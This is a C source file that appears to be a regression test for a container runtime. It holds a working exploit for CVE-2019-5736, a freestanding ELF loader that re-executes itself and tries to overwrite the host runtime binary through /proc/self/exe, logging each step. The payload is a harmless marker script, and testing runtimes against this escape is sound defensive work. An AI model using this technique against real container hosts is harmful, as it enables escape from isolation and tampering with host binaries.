/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The CVE-2019-5736 attacker of t-sec-exe.sh, placed in an image as its ELF
 * loader (/lib64/ld-linux-x86-64.so.2). The image's program is a script
 * `#!/proc/self/exe`: the kernel runs the binary the process was executing
 * (the runtime) and, as that binary's PT_INTERP, this program, while
 * /proc/self/exe still names the runtime's file.
 *
 * A loader cannot use libc (the auxiliary vector describes the runtime, not
 * it), so this is freestanding (x86-64 syscalls; built -nostdlib -static).
 * Stage 1 keeps an O_PATH fd of /proc/self/exe and re-executes itself as
 * stage 2, so it no longer executes that file. Stage 2 forks; the child
 * tries for up to 20 s to reopen the fd for writing (ETXTBSY while the
 * runtime still runs from it) and to overwrite its first bytes. Each step
 * is appended to /attack.log, which the test reads from the host.
 */
#define _GNU_SOURCE
#include <asm/unistd.h>
#include <fcntl.h>
#include <stddef.h>

#define ETXTBSY 26

static long sys6(long n, long a, long b, long c, long d, long e, long f)
{
        long ret;
        register long r10 __asm__("r10") = d;
        register long r8 __asm__("r8") = e;
        register long r9 __asm__("r9") = f;
        __asm__ volatile("syscall"
                         : "=a"(ret)
                         : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                         : "rcx", "r11", "memory");
        return ret;
}
#define SYS(n, a, b, c) sys6(__NR_##n, (long)(a), (long)(b), (long)(c), 0, 0, 0)

static char *put(char *p, const char *s)
{
        while (*s)
                *p++ = *s++;
        return p;
}

static char *put_num(char *p, long v)
{
        char tmp[24];
        int n = 0;
        if (v < 0) {
                *p++ = '-';
                v = -v;
        }
        do
                tmp[n++] = (char)('0' + v % 10);
        while ((v /= 10) && n < 23);
        while (n)
                *p++ = tmp[--n];
        return p;
}

/* note("stage1: exe ", exe, n): appends the line "<a><b><n>\n" to /attack.log */
static void note(const char *a, const char *b, long n)
{
        char buf[512], *p = put(put(buf, a), b);
        if (n != -1)
                p = put_num(put(p, " "), n);
        *p++ = '\n';
        long fd = SYS(open, "/attack.log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
        if (fd >= 0) {
                SYS(write, fd, buf, p - buf);
                SYS(close, fd, 0, 0);
        }
}

static long parse(const char *s)
{
        long v = 0;
        while (*s >= '0' && *s <= '9')
                v = v * 10 + (*s++ - '0');
        return v;
}

static void overwrite(long fd)
{
        char path[64], *p = put_num(put(path, "/proc/self/fd/"), fd);
        *p = '\0';
        struct { long s, ns; } nap = {0, 20 * 1000 * 1000};
        for (int i = 0; i < 1000; i++) {
                long w = SYS(open, path, O_WRONLY | O_CLOEXEC, 0);
                if (w == -ETXTBSY) {
                        SYS(nanosleep, &nap, 0, 0);
                        continue;
                }
                if (w < 0) {
                        note("result: open-denied errno", "", -w);
                        return;
                }
                static const char payload[] = "#!/bin/sh\necho OVERWRITTEN-BY-CONTAINER\n";
                long k = sys6(__NR_pwrite64, w, (long)payload, sizeof(payload) - 1, 0, 0, 0);
                note(k > 0 ? "result: OVERWROTE bytes" : "result: write-denied errno", "", k > 0 ? k : -k);
                return;
        }
        note("result: busy-until-timeout", "", -1);
}

static void attack(long argc, char **argv)
{
        static char *empty[] = {NULL};
        if (argc >= 2 && argv[0][0] == 's' && argv[0][5] == '2') { /* "stage2" */
                long c = SYS(fork, 0, 0, 0);
                if (c == 0) {
                        overwrite(parse(argv[1]));
                } else if (c > 0 && SYS(getpid, 0, 0, 0) == 1) { /* the init's exit would end the pid namespace */
                        sys6(__NR_wait4, c, 0, 0, 0, 0, 0);
                }
                return;
        }
        char exe[256];
        long n = SYS(readlink, "/proc/self/exe", exe, sizeof(exe) - 1);
        exe[n > 0 ? n : 0] = '\0';
        long fd = SYS(open, "/proc/self/exe", O_PATH, 0);
        note("stage1: exe ", exe, fd);
        if (fd < 0)
                return;
        char fdstr[24];
        *put_num(fdstr, fd) = '\0';
        char *args[] = {"stage2", fdstr, NULL};
        long r = SYS(execve, "/lib64/ld-linux-x86-64.so.2", args, empty);
        note("stage1: execve stage2 failed, errno", "", -r);
}

__attribute__((used)) static void start_c(long *sp)
{
        attack(sp[0], (char **)(sp + 1));
        SYS(exit_group, 0, 0, 0);
}

__asm__(".text\n.global _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall start_c\n\thlt\n");
